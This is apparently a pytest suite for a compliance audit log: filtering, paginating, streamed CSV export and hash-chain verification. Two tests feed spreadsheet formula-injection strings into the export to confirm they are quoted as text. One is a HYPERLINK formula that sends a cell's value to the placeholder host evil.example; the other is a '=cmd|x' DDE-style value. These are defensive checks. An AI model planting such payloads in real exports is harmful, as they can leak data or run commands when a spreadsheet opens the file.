"""The audit list: filters, keyset pages and a date range exported as streamed CSV."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from app.compliance.services.audit_trail import AuditFilter, csv_lines, events_page
from app.platform.audit import record, verify_chain
from models import AuditEvent, db


@pytest.fixture()
def events(staff):  # noqa: ANN001, ANN201
    """Events on three days; staff actions and system ones."""
    user = staff("compliance")
    days = [datetime(2026, 11, d, 12, tzinfo=UTC) for d in (1, 2, 3)]
    for i in range(30):
        event = record("brand.kyc_changed" if i % 3 == 0 else "proof.approved", "brand" if i % 3 == 0 else "proof",
                       f"b{i % 2}" if i % 3 == 0 else f"p{i}", actor=user if i % 3 == 0 else None,
                       actor_label="system", before={"kyc_status": "pending"} if i % 3 == 0 else None,
                       after={"kyc_status": "verified"} if i % 3 == 0 else None, reason=f"reason {i}")
        event.at = days[i // 10]  # spread over the days (the chain hashes the stored time: rehash below)
    db.session.commit()
    _rehash()
    return user


def _rehash() -> None:
    """Re-chain after moving times, as if the events had been written on those days."""
    from app.platform.audit import GENESIS, HEAD_ID, event_hash
    from models import AuditChainHead

    prev = GENESIS
    for e in db.session.scalars(sa.select(AuditEvent).order_by(AuditEvent.id)):
        e.prev_hash = prev
        e.hash = prev = event_hash(e.at, e.actor_id, e.actor_label, e.action, e.object_type, e.object_id, e.data,
                                   e.before, e.after, e.reason, prev)
        last = e
    head = db.session.get(AuditChainHead, HEAD_ID)
    head.last_hash, head.last_event_id = prev, last.id
    db.session.commit()
    assert verify_chain().ok


def test_filters_by_actor_action_object_and_dates(events):
    assert len(events_page(AuditFilter(actor="compliance@example.test"), per_page=100).events) == 10
    assert len(events_page(AuditFilter(action="proof.approved"), per_page=100).events) == 20
    assert len(events_page(AuditFilter(action="proof."), per_page=100).events) == 20  # a prefix
    assert len(events_page(AuditFilter(object_type="brand", object_id="b0"), per_page=100).events) == 5
    day2 = datetime(2026, 11, 2, tzinfo=UTC).date()
    on_day2 = events_page(AuditFilter(since=day2, until=day2), per_page=100).events
    assert len(on_day2) == 10 and {e.at.day for e in on_day2} == {2}


def test_pages_go_back_in_time_without_gaps_or_repeats(events):
    seen, before = [], None
    while True:
        page = events_page(AuditFilter(), before=before, per_page=7)
        seen += [e.id for e in page.events]
        if page.next_before is None:
            break
        before = page.next_before
    assert seen == sorted(seen, reverse=True) and len(seen) == len(set(seen)) == 30


def test_the_audit_page_filters_and_links_the_next_page(client, auth, events):
    auth.login("compliance@example.test")
    page = client.get("/compliance/audit?action=brand.kyc_changed&object_id=b1").get_data(as_text=True)
    assert page.count("<tr><td class=\"num\">") == 5
    assert "reason 3" in page and "reason 1<" not in page
    many = client.get("/compliance/audit").get_data(as_text=True)
    assert 'rel="next"' not in many  # 30 events fit one page of 50
    assert client.get("/compliance/audit?since=not-a-date").status_code == 200


def test_a_date_range_exports_as_streamed_csv_and_the_export_is_audited(client, auth, events):
    auth.login("compliance@example.test")
    response = client.post("/compliance/audit/export", data={"since": "2026-11-02", "until": "2026-11-03",
                                                             "action": "proof.approved"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.is_streamed
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 14 and {r["action"] for r in rows} == {"proof.approved"}
    assert all(r["at"].startswith(("2026-11-02", "2026-11-03")) for r in rows)
    assert [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)
    assert all(len(r["hash"]) == 64 for r in rows)
    exported = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "audit.exported"))
    assert exported.actor_label == "compliance@example.test" and exported.object_id == "2026-11-02..2026-11-03"
    assert verify_chain().ok


def test_export_needs_a_date_range(client, auth, events):
    auth.login("compliance@example.test")
    response = client.post("/compliance/audit/export", data={"since": "2026-11-02"})
    assert response.status_code == 302
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent)
                             .where(AuditEvent.action == "audit.exported")) == 0


def test_csv_comes_in_chunks(events):
    chunks = list(csv_lines(AuditFilter(), batch=8))
    assert len(chunks) == 4  # 30 rows: three chunks of 8 (the first with the header), then the last 6
    assert sum(chunk.count("\n") for chunk in chunks) == 31


def test_text_anyone_could_type_is_exported_as_text_not_a_formula(app):
    """A sign-in email lands in a throttling event's object id: the export quotes it for spreadsheets."""
    trap = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    record("staff.login_throttled", "staff", trap, actor_label=trap)
    db.session.commit()
    rows = list(csv.reader(io.StringIO("".join(csv_lines(AuditFilter())))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells.count("'" + trap) == 2 and trap not in cells


def test_the_exported_file_is_checked_with_nothing_but_its_own_rows(app, staff):
    """Each row's hash is recomputed from the file alone (the recipe docs/compliance.md gives), and each
    row names the previous row's hash: nothing of the workbench is needed to check an export."""
    import hashlib
    import json

    user = staff("compliance")
    record("brand.kyc_changed", "brand", "b1", actor=user, before={"kyc_status": "pending"},
           after={"kyc_status": "verified", "note": "核实 ok"}, reason="licence checked")
    record("proof.approved", "proof", "p1", actor_label="system", data={"policy": "auto_approve", "n": 2.5})
    record("staff.login_throttled", "staff_user", "=cmd|x", actor_label="203.0.113.9")  # exported with an apostrophe
    db.session.commit()
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(AuditFilter())))))
    previous = None
    for row in rows:
        cell = {k: v[1:] if v[:2] in ("'=", "'+", "'-", "'@") else v for k, v in row.items()}  # a spreadsheet's quote
        fields = ["audit-v1", cell["at"], int(cell["actor_id"]) if cell["actor_id"] else None, cell["actor_label"],
                  cell["action"], cell["object_type"], cell["object_id"], cell["data"] or None, cell["before"] or None,
                  cell["after"] or None, cell["reason"] or None, cell["prev_hash"]]
        text = json.dumps(fields, ensure_ascii=False, separators=(",", ":")).encode()
        assert hashlib.sha256(text).hexdigest() == cell["hash"], row
        assert previous is None or cell["prev_hash"] == previous
        previous = cell["hash"]
    assert len(rows) == 3
